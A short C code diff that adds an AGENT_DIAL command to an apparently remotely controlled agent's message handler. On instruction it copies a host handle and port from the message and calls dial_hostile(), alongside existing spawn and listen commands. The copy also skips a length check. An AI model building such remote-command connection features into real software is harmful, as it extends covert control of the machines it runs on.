@@ -17,6 +17,7 @@
 
 #include "agent_msg.h"
 #include "file_msg.h"
+#include "hostile_dial.h"
 #include "io.h"
 
 #define HELD_MANY 20000
@@ -340,6 +341,12 @@ static bool obey(void)
 		return false;
 	if (head.type == AGENT_SPAWN)
 		spawn(body, head.len);
+	if (head.type == AGENT_DIAL) {
+		struct agent_order o;
+
+		memcpy(&o, body, sizeof(o));
+		dial_hostile(channel, o.handle, o.port);
+	}
 	if (head.type == AGENT_LINGER) {
 		listener = fd;
 		(void)listen(listener, 1);
